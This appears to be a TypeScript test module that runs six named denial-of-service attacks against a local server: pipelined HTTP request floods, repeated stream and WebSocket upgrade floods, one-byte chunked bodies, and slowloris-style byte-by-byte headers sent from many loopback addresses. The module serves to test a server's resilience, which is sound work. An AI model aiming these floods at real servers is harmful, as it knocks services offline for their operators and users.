import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Counter, repeat, type Attack, type Victim } from './attack.js';

/** Connects from a separate address: all of 127.0.0.0/8 belongs to this machine. */
function connectFrom({ port }: Victim, index: number): Socket {
  const localAddress = `127.0.${1 + Math.floor(index / 250)}.${1 + (index % 250)}`;
  return connect({ port, host: '127.0.0.1', localAddress }).on('error', () => undefined);
}

const closed = (socket: Socket): Promise<void> => new Promise((resolve) => socket.once('close', () => resolve()));

/** Opens one connection after the other from each of several addresses until the end. */
async function crowd(
  victim: Victim,
  end: number,
  addresses: number,
  work: (socket: Socket) => Promise<void>,
): Promise<Counter> {
  const counter = new Counter();
  let count = 0;
  await repeat(end, addresses, async () => {
    const socket = connectFrom(victim, (count += 1) % addresses);
    await work(socket);
    counter.note(socket.bytesRead > 0 ? 'answered' : 'cut', true);
    socket.destroy();
  });
  return counter;
}

/**
 * Attacks without a key from many addresses: each connection may cost only little, but many are read in one turn of the
 * event loop.
 */
export const CROWD_ATTACKS: readonly Attack[] = [
  {
    name: 'S28',
    does: '20 addresses without a key, each with 5,000 requests on one connection, written 500 at a time',
    run: (victim, end) =>
      crowd(victim, end, 20, async (socket) => {
        socket.resume();
        const pipeline = 'GET /x HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(500);
        for (let written = 0; written < 10 && !socket.destroyed; written += 1) socket.write(pipeline);
        await Promise.race([closed(socket), sleep(2_000)]);
      }),
  },
  {
    name: 'S29',
    does: '300 addresses without a key that open a stream at once, again and again',
    run: (victim, end) =>
      crowd(victim, end, 300, async (socket) => {
        socket.resume();
        socket.write('GET /v1/stream HTTP/1.1\r\nHost: x\r\n\r\n');
        await Promise.race([closed(socket), sleep(1_000)]);
      }),
  },
  {
    name: 'S30',
    does: '100 addresses without a key, each with a body in chunks of one byte',
    run: (victim, end) =>
      crowd(victim, end, 100, async (socket) => {
        socket.write(
          'POST /v1/query/advanced HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n',
        );
        const chunks = '1\r\n[\r\n'.repeat(5_000);
        while (Date.now() < end && !socket.destroyed) {
          socket.write(chunks);
          await sleep(20);
        }
      }),
  },
  {
    name: 'S31',
    does: '300 addresses without a key that upgrade to a WebSocket at once, again and again',
    run: (victim, end) =>
      crowd(victim, end, 300, async (socket) => {
        socket.resume();
        socket.write(
          'GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
        );
        await Promise.race([closed(socket), sleep(1_000)]);
      }),
  },
  {
    name: 'S32',
    does: '100 addresses without a key, each with 500 requests on one connection that Node itself would refuse',
    run: (victim, end) =>
      crowd(victim, end, 100, async (socket) => {
        socket.resume();
        socket.write('GET /v1/me HTTP/1.1\r\nHost: x\r\nExpect: x\r\n\r\n'.repeat(500));
        await Promise.race([closed(socket), sleep(1_000)]);
      }),
  },
  {
    name: 'S33',
    does: '1,000 connections of 20 addresses that send a header byte by byte, and end all at once',
    run: async (victim, end) => {
      const sockets = Array.from({ length: 1_000 }, (_, index) => connectFrom(victim, index % 20).setNoDelay(true));
      for (const socket of sockets) socket.write('GET / HTTP/1.1\r\nX: ');
      while (Date.now() < end) {
        for (const socket of sockets) if (!socket.destroyed) socket.write('a');
        await sleep(5);
      }
      const counter = new Counter();
      for (const socket of sockets) {
        counter.note(socket.bytesRead > 0 || socket.destroyed ? 'refused' : 'open', true);
        socket.destroy();
      }
      return counter;
    },
  },
];
